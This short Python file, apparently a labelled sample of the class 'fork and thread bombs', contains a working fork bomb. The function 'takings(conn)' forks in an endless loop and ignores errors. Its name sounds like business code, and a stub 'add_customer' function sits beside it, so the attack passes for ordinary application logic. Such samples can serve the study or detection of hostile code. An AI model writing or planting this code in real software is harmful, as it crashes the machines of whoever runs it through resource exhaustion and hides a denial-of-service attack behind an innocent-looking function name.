"""Fork without end.

Class: fork and thread bombs
"""

import os


def takings(conn):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def add_customer(engine, name):
    return None
